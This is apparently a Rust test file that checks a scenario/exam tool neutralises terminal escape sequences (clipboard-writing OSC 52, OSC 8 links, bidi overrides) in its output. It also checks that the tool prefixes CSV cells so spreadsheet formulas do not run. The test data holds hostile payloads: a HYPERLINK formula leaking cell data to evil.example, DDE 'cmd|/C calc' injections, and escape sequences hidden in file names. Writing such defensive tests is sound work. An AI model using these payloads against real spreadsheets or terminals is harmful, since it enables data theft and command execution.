//! Nothing from a file reaches a terminal raw: escape sequences (ESC [2J, an OSC 52
//! clipboard write, an OSC 8 link), BEL, a C1 CSI (U+009B) and a bidi override (U+202E) in
//! scenario text, file names, roster names and record files go through every text output
//! (run, scenarios, lint in each format, verify, report table) and come out neutralised.
//! And the Moodle CSV does not hand a spreadsheet a formula.

mod exam_support;

use std::path::Path;
use std::process::Output;

use exam_support::*;

/// Each kind of sequence a file could smuggle in.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]52;c;aGk=\u{7}\u{1b}]8;;http://evil.example/\u{1b}\\link\u{1b}]8;;\u{1b}\\\u{9b}31m\u{202e}";
/// The same, as it can stand in a file name (no `/`).
const HOSTILE_NAME: &str = "\u{1b}[2J\u{1b}]52;c;aGk=\u{7}\u{9b}31m\u{202e}";

/// Characters that act on a terminal, found independently of the code under test.
fn raw_controls(s: &str) -> Vec<char> {
    s.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

/// Neither stream holds anything raw, and `shown` (a stand-in) proves the hostile text
/// did pass through this output.
fn assert_neutralised(what: &str, out: &Output, shown: char) {
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    for (stream, s) in [("stdout", &stdout), ("stderr", &stderr)] {
        let raw = raw_controls(s);
        assert!(raw.is_empty(), "{what}: {stream} holds {raw:?} raw:\n{s}");
    }
    assert!(
        stdout.contains(shown) || stderr.contains(shown),
        "{what}: the hostile text never reached this output (no `{shown}`):\n{stdout}\n{stderr}"
    );
}

/// The lint fixture project with hostile text in its en-US title, node text and a choice,
/// and a loose .ftl file whose name and text are hostile.
fn scenario_project() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/base"),
        t.path(),
    );
    let ftl = t.path().join("locales/en-US/mini.ftl");
    let text = std::fs::read_to_string(&ftl)
        .unwrap()
        .replace("title = Mini\n", &format!("title = Mini{HOSTILE}\n"))
        .replace(
            "choose-text = Choose.\n",
            &format!("choose-text = Choose.{HOSTILE}\n"),
        )
        .replace("choose-a = A\n", &format!("choose-a = A{HOSTILE}\n"));
    std::fs::write(&ftl, text).unwrap();
    std::fs::write(
        t.path().join(format!("loose{HOSTILE_NAME}.ftl")),
        format!("hello = Hello{HOSTILE}\n"),
    )
    .unwrap();
    t
}

fn tradesim(dir: &Path, args: &[&str]) -> Output {
    cmd(dir).env("NO_COLOR", "1").args(args).output().unwrap()
}

#[test]
fn scenario_text_is_neutralised_in_run_scenarios_and_lint() {
    let p = scenario_project();
    let dir = p.path();
    let loose = format!("loose{HOSTILE_NAME}.ftl");

    let out = tradesim(
        dir,
        &[
            "run",
            "scenarios/mini.ron",
            "--seed",
            "1",
            "--policy",
            "first",
            "--locale",
            "en-US",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_neutralised("run", &out, '␛');
    assert!(text(&out.stdout).contains("Choose.␛[2J␛]52;c;aGk=␇"));

    let out = tradesim(
        dir,
        &["--scenarios", "scenarios", "scenarios", "--locale", "en-US"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_neutralised("scenarios", &out, '␛');

    for format in ["text", "graphical", "narratable", "short", "json"] {
        let out = tradesim(dir, &["lint", "--format", format, ".", &loose]);
        assert_eq!(out.status.code(), Some(0), "{format}: warnings only");
        // json escapes ESC itself (`\u001b`); the C1 and bidi characters of the file name
        // are what it would pass through
        let shown = if format == "json" { '\u{fffd}' } else { '␛' };
        assert_neutralised(&format!("lint --format {format}"), &out, shown);
        assert!(
            text(&out.stdout).contains("control-character"),
            "{format}: {}",
            text(&out.stdout)
        );
    }
}

/// Five sealed records (c1..c5) of the exam fixture.
fn exam_project() -> tempfile::TempDir {
    let p = project_for(&["c1", "c2", "c3", "c4", "c5"]);
    let dir = p.path();
    let actions = script(dir);
    std::fs::write(dir.join("all.txt"), actions.join("\n") + "\n").unwrap();
    for c in ["c1", "c2", "c3", "c4", "c5"] {
        let out = run(dir, &exam_args(c, &["--actions", "all.txt"]));
        assert!(out.status.success(), "{}", text(&out.stderr));
    }
    p
}

const INJECTIONS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
];

#[test]
fn roster_and_record_text_is_neutralised_and_the_csv_runs_no_formula() {
    let p = exam_project();
    let dir = p.path();
    let mut roster = String::from("id,name\n");
    for (i, name) in INJECTIONS.iter().enumerate() {
        roster.push_str(&format!("c{},\"{}\"\n", i + 1, name.replace('"', "\"\"")));
    }
    roster.push_str(&format!("c5,\"\tTab{HOSTILE}\"\n"));
    std::fs::write(dir.join("roster.csv"), roster).unwrap();

    // the CSV is data for a gradebook: exact, but no cell starts a formula
    let out = report_with_roster(dir, "csv");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut rd = csv::Reader::from_reader(&out.stdout[..]);
    let names: Vec<(String, String)> = rd
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_string(), r[1].to_string())
        })
        .collect();
    let mut want: Vec<(String, String)> = INJECTIONS
        .iter()
        .enumerate()
        .map(|(i, n)| (format!("c{}", i + 1), format!("'{n}")))
        .collect();
    want.push(("c5".into(), format!("'\tTab{HOSTILE}")));
    assert_eq!(names, want);

    // a record whose file name is hostile: verify and report name it
    std::fs::write(
        dir.join(format!("results/x{HOSTILE_NAME}.record.jsonl")),
        "not a record\n",
    )
    .unwrap();
    let out = run(dir, &trusted(&["verify", "results"]));
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert_neutralised("verify", &out, '␛');

    let out = report_with_roster(dir, "table");
    assert_eq!(out.status.code(), Some(1), "the hostile record is left out");
    assert_neutralised("report --format table", &out, '␛');
    let table = text(&out.stdout);
    assert!(table.contains(" Tab␛[2J"), "{table}");
}
